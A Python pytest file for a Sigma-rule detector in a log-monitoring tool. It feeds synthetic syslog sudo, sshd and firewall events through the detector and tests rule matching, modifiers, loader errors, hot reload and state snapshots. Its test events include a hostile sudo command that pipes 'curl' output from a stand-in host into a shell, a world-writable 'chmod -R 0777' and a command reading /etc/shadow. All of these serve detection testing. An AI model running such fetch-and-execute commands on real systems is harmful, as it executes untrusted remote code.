"""Sigma detector: the shipped rules over real collector output, the evaluator's modifiers and
conditions, loader errors with file and line, hot reload, dedup, expiry, snapshot/restore."""
from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

import pytest

from collectors.syslog import document, programs, rfc
from collectors.syslog.document import Origin
from detectors.sigma import SigmaConfig, SigmaDetector, load_rules
from watchkeeper import schema, timeutil
from watchkeeper.documents import alert_document

RULES = Path(__file__).resolve().parents[3] / "detectors" / "rules" / "sigma"
ROOT_SSH = "sigma:06015c81-ab2b-42db-8134-42b79695d375"
SUDO_ROOT = "sigma:d90b444d-e981-4977-a69e-a7837fbd0381"
SMB_DROP = "sigma:3410896b-3cad-4fdb-8c28-4b4637bea6c5"
SUDO_SHELL = "sigma:a9bca66a-3d71-4666-a2b1-10b93b3643e0"
T0 = timeutil.parse("2025-06-15T15:00:00Z")


class Clock:
    def __init__(self):
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


def syslog(app: str, text: str, t: float = T0, host: str = "web01", pri: int = 38) -> dict:
    """One line through the real syslog collector: header, program parser, ECS document."""
    raw = f"<{pri}>1 {timeutil.format(t)} {host} {app} - - - {text}".encode()
    msg = rfc.parse(raw, t)
    doc = document.build(msg, raw, Origin("192.0.2.1", 514, "udp", t), programs.extract(msg))
    return schema.validate(doc)


def sudo(user: str, command: str, as_user: str = "root", **kw) -> dict:
    return syslog("sudo", f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER={as_user} ; "
                          f"COMMAND={command}", **kw)


def drop(src: str, dport: int, proto: str = "TCP", prefix: str = "[UFW BLOCK]") -> dict:
    return syslog("kernel", f"{prefix} IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00"
                            f" SRC={src} DST=10.0.0.10 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=4242"
                            f" DF PROTO={proto} SPT=40000 DPT={dport} WINDOW=29200 SYN URGP=0",
                  host="fw01", pri=4)


@pytest.fixture(scope="module")
def shipped():
    return SigmaDetector(SigmaConfig(paths=(str(RULES),)))


@pytest.mark.parametrize("event, expected", [
    (syslog("sshd", "Accepted password for root from 203.0.113.7 port 50022 ssh2"), {ROOT_SSH}),
    (syslog("sshd", "Accepted publickey for root from 2001:db8::7 port 50022 ssh2"), {ROOT_SSH}),
    (sudo("eve", "/usr/bin/id"), {SUDO_ROOT}),
    (sudo("alice", "/bin/bash"), {SUDO_ROOT, SUDO_SHELL}),            # endswith
    (sudo("admin", "/usr/bin/curl -s http://x.example/i.sh | sh"), {SUDO_SHELL}),  # contains|all
    (sudo("admin", "/bin/chmod -R 0777 /srv/www"), {SUDO_SHELL}),    # re
    (drop("203.0.113.5", 445), {SMB_DROP}),
    (drop("198.51.100.9", 445, prefix="nft drop inbound: "), {SMB_DROP}),
    # benign look-alikes: none of these may match
    (syslog("sshd", "Accepted password for root from 10.0.0.5 port 50022 ssh2"), set()),
    (syslog("sshd", "Accepted password for alice from 203.0.113.7 port 50022 ssh2"), set()),
    (syslog("sshd", "Failed password for root from 203.0.113.7 port 50022 ssh2"), set()),
    (sudo("admin", "/usr/bin/apt update"), set()),
    (sudo("eve", "/usr/bin/psql", as_user="postgres"), set()),
    (sudo("ansible", "/bin/sh"), set()),                              # allowlisted + filter
    (sudo("admin", "/usr/bin/curl -s http://x.example/i.sh -o /tmp/i.sh"), set()),
    (drop("203.0.113.5", 22), set()),
    (drop("10.1.2.3", 445), set()),                                   # internal source
    (drop("203.0.113.5", 445, proto="UDP"), set()),
    (drop("203.0.113.5", 445, prefix="[UFW ALLOW]"), set()),
    (syslog("cron", "(root) CMD (run-parts /etc/cron.hourly)"), set()),
])
def test_shipped_rules(shipped, event, expected):
    shipped.restore({})                                      # each case starts without state
    alerts = shipped.on_event(event, T0)
    assert {a.rule_id for a in alerts} == expected
    for alert in alerts:
        assert alert.category == "policy_violation" and alert.detector == "sigma"
        assert alert.technique_id and alert.evidence == [event["event"]["id"]]
        schema.validate(alert_document(alert, created=T0))


def test_alert_fields(shipped):
    shipped.restore({})
    event = syslog("sshd", "Accepted password for root from 203.0.113.7 port 50022 ssh2")
    [alert] = shipped.on_event(event, T0)
    assert alert.entity == f"{ROOT_SSH}|203.0.113.7" and alert.source_ip == "203.0.113.7"
    assert (alert.severity, alert.technique_id, alert.technique_name) == (3, "T1078",
                                                                          "Valid Accounts")
    [by_user] = shipped.on_event(sudo("eve", "/usr/bin/id"), T0)
    assert by_user.entity == f"{SUDO_ROOT}|user:eve" and by_user.severity == 2


def test_repeats_update_one_alert(shipped):
    shipped.restore({})
    events = [syslog("sshd", f"Accepted password for root from 203.0.113.7 port {p} ssh2",
                     t=T0 + p) for p in range(1, 7)]
    alerts = [a for e in events for a in shipped.on_event(e, T0 + 1)]
    assert [a.count for a in alerts] == [1, 2, 4]
    assert len({(a.entity, a.first_seen) for a in alerts}) == 1
    [update] = shipped.on_timer(T0 + 1 + shipped.config.update_seconds)
    assert update.count == 6 and len(update.evidence) == 6


def test_snapshot_restore_and_expiry(shipped):
    shipped.restore({})
    shipped.on_event(sudo("eve", "/usr/bin/id"), T0)
    other = SigmaDetector(SigmaConfig(paths=(str(RULES),)))
    other.restore(json.loads(json.dumps(shipped.snapshot())))
    [again] = other.on_event(sudo("eve", "/usr/bin/id", t=T0 + 9), T0 + 9)
    assert again.count == 2 and again.first_seen == T0
    other.on_timer(T0 + 9 + other.config.idle_seconds + 1)
    assert other.snapshot() == {"hits": {}}


# --- the evaluator: conditions and modifiers on inline rules --------------------------------
def rule(detection: str, level: str = "medium", logsource: str = "product: linux",
         rid: str = "11111111-1111-4111-8111-111111111111", extra: str = "") -> str:
    return textwrap.dedent(f"""\
        title: test rule
        id: {rid}
        level: {level}
        logsource: {{{logsource}}}
        {extra}detection:
        """) + textwrap.indent(textwrap.dedent(detection), "  ") + "\n"


def detector_for(tmp_path, *texts: str, **config) -> SigmaDetector:
    path = tmp_path / "rules.yml"
    path.write_text("---\n".join(texts))
    return SigmaDetector(SigmaConfig(paths=(str(path),), **config))


EVENT = sudo("alice", "/usr/bin/Vim /etc/Shadow", as_user="root")


@pytest.mark.parametrize("detection, matches", [
    ("sel: {User: alice}\ncondition: sel", True),
    ("sel: {User: ALICE}\ncondition: sel", True),                      # case-insensitive
    ("sel: {User|cased: ALICE}\ncondition: sel", False),
    ("sel: {User: [bob, alice]}\ncondition: sel", True),               # list = OR
    ("sel: {User: alice, user.effective.name: bob}\ncondition: sel", False),  # map = AND
    ("sel: {CommandLine: '*vim*shadow'}\ncondition: sel", True),       # wildcards
    ("sel: {CommandLine: '/usr/bin/v?m *'}\ncondition: sel", True),
    ("sel: {CommandLine|startswith: /usr/bin/}\ncondition: sel", True),
    ("sel: {CommandLine|endswith: passwd}\ncondition: sel", False),
    ("sel: {CommandLine|contains|all: [vim, shadow]}\ncondition: sel", True),
    ("sel: {CommandLine|contains|all: [vim, passwd]}\ncondition: sel", False),
    ("sel: {CommandLine|re: 'V.m\\s+/etc'}\ncondition: sel", True),    # re is case-sensitive
    ("sel: {CommandLine|re: 'v.m\\s+/etc'}\ncondition: sel", False),
    ("sel: {CommandLine|re|i: 'v.m\\s+/etc'}\ncondition: sel", True),
    ("sel: {log.syslog.appname: sudo}\ncondition: sel", True),         # ECS path as is
    ("sel: {event.type: start}\ncondition: sel", True),                # ECS array
    ("sel: {SourceIp|exists: true}\ncondition: sel", False),
    ("sel: {SourceIp: null}\ncondition: sel", True),
    ("sel: [Shadow]\ncondition: sel", False),                          # keyword = whole line
    ("sel: ['*COMMAND=/usr/bin/Vim*']\ncondition: sel", True),
    ("a: {User: alice}\nb: {User: bob}\ncondition: a and not b", True),
    ("a: {User: alice}\nb: {User: bob}\ncondition: not (a or b)", False),
    ("a: {User: x}\nb: {User: y}\nc: {User: alice}\ncondition: (a or b) or c", True),
    ("sel_a: {User: x}\nsel_b: {User: alice}\ncondition: 1 of sel_*", True),
    ("sel_a: {User: x}\nsel_b: {User: alice}\ncondition: all of sel_*", False),
    ("a: {User: alice}\nb: {CommandLine|contains: shadow}\ncondition: all of them", True),
    ("a: {User: alice}\nb: {User: bob}\ncondition: all of them", False),
])
def test_conditions_and_modifiers(tmp_path, detection, matches):
    det = detector_for(tmp_path, rule(detection))
    assert det.files.all_errors() == []
    assert bool(det.on_event(EVENT, T0)) is matches


def test_numbers_cidr_and_comparisons(tmp_path):
    det = detector_for(tmp_path, rule(
        "sel: {DestinationPort|gte: 400, SourceIp|cidr: 203.0.113.0/24, Protocol: tcp}\n"
        "condition: sel", logsource="product: linux, category: firewall"))
    assert det.on_event(drop("203.0.113.5", 445), T0)
    assert det.on_event(drop("203.0.113.5", 80), T0) == []
    assert det.on_event(drop("198.51.100.5", 445), T0) == []


def test_logsource_selects_the_module(tmp_path):
    det = detector_for(tmp_path, rule("sel: {User: alice}\ncondition: sel",
                                      logsource="product: linux, service: sshd"))
    assert det.on_event(EVENT, T0) == []                   # a sudo event, an sshd rule
    ssh = syslog("sshd", "Accepted password for alice from 10.0.0.1 port 2 ssh2")
    assert det.on_event(ssh, T0)


@pytest.mark.parametrize("level, config, severity", [
    ("low", {}, 1), ("medium", {}, 2), ("high", {}, 3), ("critical", {}, 4),
    ("informational", {}, None), ("informational", {"include_informational": True}, 1),
])
def test_level_to_severity(tmp_path, level, config, severity):
    det = detector_for(tmp_path, rule("sel: {User: alice}\ncondition: sel", level=level),
                       **config)
    alerts = det.on_event(EVENT, T0)
    assert [a.severity for a in alerts] == ([severity] if severity else [])


# --- loader: every error with its file and line, broken files keep the old version ----------
GOOD = rule("sel: {User: alice}\ncondition: sel")
BROKEN_RULES = {
    "undefined detection": rule("sel: {User: a}\ncondition: sel and nope"),
    "unmapped field": rule("sel: {ParentImage: x}\ncondition: sel"),
    "windows logsource": rule("sel: {User: a}\ncondition: sel", logsource="product: windows"),
    "unknown service": rule("sel: {User: a}\ncondition: sel",
                            logsource="product: linux, service: auditd"),
    "no id": rule("sel: {User: a}\ncondition: sel").replace(
        "id: 11111111-1111-4111-8111-111111111111\n", ""),
    "bad modifier": rule("sel: {User|nosuchmodifier: a}\ncondition: sel"),
    "bad regex": rule("sel: {User|re: '(unclosed'}\ncondition: sel"),
    "no condition": rule("sel: {User: a}"),
    "not a mapping": "- just\n- a list\n",
}


def test_loader_collects_every_error_with_file_and_line(tmp_path):
    texts = [GOOD, *BROKEN_RULES.values()]
    path = tmp_path / "rules.yml"
    path.write_text("---\n".join(texts))
    result = load_rules(str(path), 1, 1)
    assert [r.title for r in result.items] == ["test rule"]          # the good one still parses
    starts, line = [], 1
    for text in texts:                                # each document starts after its "---"
        starts.append(line)
        line += text.count("\n") + 1
    assert [int(e.split(":")[1]) for e in result.errors] == starts[1:]   # one per bad rule
    assert all(e.startswith(f"{path}:") for e in result.errors)
    assert result.fatal


def test_invalid_yaml_names_the_line(tmp_path):
    path = tmp_path / "bad.yml"
    path.write_text("title: x\ndetection:\n  sel: {User: [unclosed\n  condition: sel\n")
    result = load_rules(str(path), 1, 1)
    assert result.fatal and result.items == []
    assert result.errors[0].startswith(f"{path}:") and "invalid YAML" in result.errors[0]


def _write(path: Path, text: str, bump: int) -> None:
    path.write_text(text)
    stamp = path.stat().st_mtime_ns + bump * 1_000_000_000
    os.utime(path, ns=(stamp, stamp))


def test_hot_reload_keeps_the_old_rules_when_an_edit_breaks_them(tmp_path):
    path, clock = tmp_path / "r.yml", Clock()
    _write(path, rule("sel: {User: alice}\ncondition: sel"), 0)
    det = SigmaDetector(SigmaConfig(paths=(str(path),), reload_seconds=10), clock=clock)
    assert det.on_event(EVENT, T0)

    _write(path, rule("sel: {User: bob}\ncondition: sel", rid="22222222-2222-4222-8222-"
                                                              "222222222222"), 1)
    clock.now = 5
    assert det.rules[0].rule_id.startswith("sigma:1111")             # not checked yet
    clock.now = 11
    det.on_timer(T0)
    assert det.rules[0].rule_id.startswith("sigma:2222")             # reloaded

    _write(path, rule("sel: {User: bob}\ncondition: sel and missing"), 2)
    clock.now = 22
    det.on_timer(T0)
    assert det.rules[0].rule_id.startswith("sigma:2222")             # broken edit: kept
    assert any("missing" in e for e in det.files.all_errors())


def test_duplicate_rule_ids_are_loaded_once(tmp_path):
    det = detector_for(tmp_path, GOOD, GOOD)
    assert len(det.rules) == 1 and len(det.on_event(EVENT, T0)) == 1


def test_shipped_rules_load_cleanly(shipped):
    assert shipped.files.all_errors() == []
    assert len(shipped.rules) == 4


@pytest.mark.parametrize("params", [{"reload_seconds": 0}, {"unknown": 1},
                                    {"max_tracked": 5}, {"update_seconds": 0}])
def test_config_bounds(params):
    with pytest.raises(ValueError):
        SigmaConfig(**params)
